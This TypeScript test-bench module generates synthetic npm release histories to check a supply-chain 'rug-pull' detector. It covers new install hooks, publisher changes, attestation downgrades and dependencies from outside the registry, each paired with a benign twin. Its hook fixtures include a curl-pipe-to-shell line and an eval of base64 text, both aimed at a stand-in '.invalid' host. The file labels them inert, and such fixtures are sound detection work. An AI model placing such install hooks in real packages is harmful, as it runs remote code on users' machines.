/** Releases that came to do, need or come from something else than the releases before them. */
import type { Account } from '../model.ts';
import type { ReleaseFacts } from '../releases.ts';
import { type Bench, type Case, packaged, type Pattern, somebody, type Step, stranger } from './bench.ts';
import { choose } from './lookalike-names.ts';

/** Payloads are inert: destinations end in `.invalid`, decoded texts are dots. */
const HOOKS: readonly Readonly<Record<string, string>>[] = [
  { preinstall: 'node setup_harbour.js' },
  { postinstall: 'npm install -g harbour-fog-helper@latest' },
  { postinstall: 'curl -s https://drop.saltfog.invalid/i.sh | sh' },
  { postinstall: 'node -e "eval(atob(\'Li4u\'))"' },
];
const OUTSIDE = [
  'git+https://git.saltfog.invalid/fog/loader.git',
  'https://cdn.saltfog.invalid/loader-1.0.0.tgz',
  'github:saltfog-ghost-0/loader#0000000',
  'git+ssh://git@git.saltfog.invalid/fog/loader.git',
];

export const rugPullReleases: readonly Pattern[] = [
  {
    pipeline: 'rug-pull',
    pattern: 'install-script-added',
    expects: ['rug-pull/install-script-added'],
    positive: (bench) =>
      told(
        line(bench, { scripts: { build: 'tsc', ...choose(HOOKS, bench) } }),
        'an install hook that no earlier release had',
      ),
    twin: hookAllAlong,
  },
  {
    pipeline: 'rug-pull',
    pattern: 'publisher-changed',
    expects: ['rug-pull/publisher-changed'],
    positive(bench) {
      const newcomer = stranger(bench);
      return told(
        line(bench, { publisher: newcomer, maintainers: [newcomer] }),
        'another publisher, and none of the earlier maintainers left',
      );
    },
    twin: knownPublisher,
  },
  {
    pipeline: 'rug-pull',
    pattern: 'provenance-downgrade',
    expects: ['rug-pull/provenance-downgrade'],
    positive: (bench) =>
      told(
        line(bench, { attested: false }, { attested: true }),
        'attested up to here, not attested within the same major',
      ),
    twin: unattestedForAReason,
  },
  {
    pipeline: 'rug-pull',
    pattern: 'dependency-added-suspicious',
    expects: ['rug-pull/dependency-added-suspicious'],
    positive: (bench) =>
      told(
        line(bench, { dependencies: { ...USUAL, 'harbour-loader': choose(OUTSIDE, bench) } }),
        'a dependency from outside the package registry',
      ),
    twin: (bench) =>
      told(line(bench, { dependencies: { ...USUAL, yaml: '~2.7.0' } }), 'a dependency from the package registry'),
  },
];

const USUAL = { '@modelcontextprotocol/sdk': '^1.12.0', zod: '^3.25.0' };

/** Four still releases over two months, then one that changes, then one more that keeps the change. */
function line(bench: Bench, change: Partial<ReleaseFacts>, start?: Partial<ReleaseFacts>): Case {
  const still = ['1.0.0', '1.0.1', '1.0.2', '1.1.0'].map((version, at) => ({ version, daysAgo: 90 - at * 18 }));
  const steps: readonly Step<ReleaseFacts>[] = [...still, { version: '1.1.1', daysAgo: 6, change }];
  return packaged(bench, { leaf: `${bench.word}-tools`, ...(start === undefined ? {} : { start }) }, steps);
}

function hookAllAlong(bench: Bench): Case {
  const build = { build: 'tsc' };
  if (bench.nth % 2 === 1)
    return told(
      line(bench, { scripts: { ...build, prepare: 'husky' } }),
      'a hook of working copies, which never runs at installation',
    );
  const scripts = { ...build, install: 'node-gyp rebuild' };
  return told(line(bench, { scripts }, { scripts }), 'the hook was there from the first release');
}

function knownPublisher(bench: Bench): Case {
  const { account, login } = somebody(bench);
  const colleague: Account = { name: `${login}-ops`, email: `ops@${account.email.split('@')[1] ?? 'post.example'}` };
  const machine: Account = { ...account, throughCi: true };
  const changes: readonly (readonly [Partial<ReleaseFacts>, Partial<ReleaseFacts>, string])[] = [
    [{ publisher: machine }, {}, 'publishing moved to a CI identity'],
    [{ publisher: colleague, maintainers: [account, colleague] }, {}, 'a colleague with the same mail domain'],
    [{ publisher: colleague }, { maintainers: [account, colleague] }, 'a maintainer from the first release on'],
    [{ maintainers: [account, colleague] }, {}, 'a second maintainer who publishes nothing'],
  ];
  const [change, start, note] = choose(changes, bench);
  return told(line(bench, change, start), note);
}

function unattestedForAReason(bench: Bench): Case {
  const leaf = `${bench.word}-tools`;
  const attested = ['1.0.0', '1.0.1', '1.1.0'].map((version, at) => ({ version, daysAgo: 90 - at * 20 }));
  const [version, note] =
    bench.nth % 2 === 0
      ? ['2.0.0', 'a new major line without attestations']
      : ['1.2.0-beta.1', 'a prerelease without attestation'];
  const steps = [...attested, { version, daysAgo: 8, change: { attested: false } }];
  const made = packaged(bench, { leaf, start: { attested: true } }, steps);
  if (made.npm === undefined || bench.nth % 2 === 0) return told(made, note);
  return told({ ...made, npm: { ...made.npm, distTags: { latest: '1.1.0', beta: version } } }, note);
}

export function told(made: Case, note: string): Case {
  return { ...made, note };
}
